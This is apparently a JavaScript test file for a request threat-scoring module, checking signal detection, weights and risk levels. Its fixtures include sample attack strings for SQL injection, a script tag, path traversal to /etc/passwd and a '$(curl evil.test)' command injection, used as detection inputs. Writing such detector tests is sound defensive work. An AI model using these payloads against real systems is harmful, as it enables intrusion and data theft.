import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { test } from 'node:test';
import { WEIGHTS, findSignals, levelOf, weigh } from '../src/v8/threat_signals.js';
import { APP } from './stack/services.js';

test('the README has the weights that the rule has', async () => {
  const text = await readFile(join(APP, 'README.md'), 'utf8');

  const written = Object.fromEntries(
    [...text.matchAll(/^\| `([a-z-]+)` \| ([\d.]+) \|/gm)].map(([, name, weight]) => [name, Number(weight)]),
  );

  assert.deepEqual(written, WEIGHTS);
});

test('signals are found in what a request says, and in nothing else', () => {
  const account = { failedSignIns: 0, biometricMissing: false };
  const cases = [
    [{}, []],
    [{ ip: '198.51.100.7', user_agent: 'Mozilla/5.0', path: '/search?q=o' + "'" + 'neill and sons' }, []],
    [{ ip: 'fe80::1' }, ['private-address']],
    [{ ip: '300.1.1.1' }, ['invalid-address']],
    [{ user_agent: '' }, ['no-user-agent']],
    [{ body: { q: 'UNION ALL SELECT password' } }, ['sql-injection']],
    [{ body: ['<script src=x>'] }, ['script-injection']],
    [{ path: '/files/../../etc/passwd' }, ['path-traversal']],
    [{ body: { name: '$(curl evil.test)' } }, ['command-injection']],
  ];
  for (const [request, expected] of cases)
    assert.deepEqual(findSignals(request, account), expected, JSON.stringify(request));
  assert.deepEqual(
    findSignals(
      { ip: '198.51.100.7' },
      { failedSignIns: 5, biometricMissing: true, previousAddress: '198.51.100.8' },
    ),
    ['address-changed', 'failed-sign-ins', 'biometric-missing'],
  );
});

test('scores grow with every signal and levels follow the threshold', () => {
  assert.equal(weigh([]), 0);
  assert.equal(weigh(['private-address']), 0.1);
  assert.equal(weigh(['sql-injection', 'script-injection']), 0.84);
  assert.equal(weigh(Object.keys(WEIGHTS)), 0.99);
  assert.deepEqual(
    [0.34, 0.35, 0.7, 0.9].map((score) => levelOf(score, 0.7)),
    ['low', 'medium', 'high', 'critical'],
  );
});
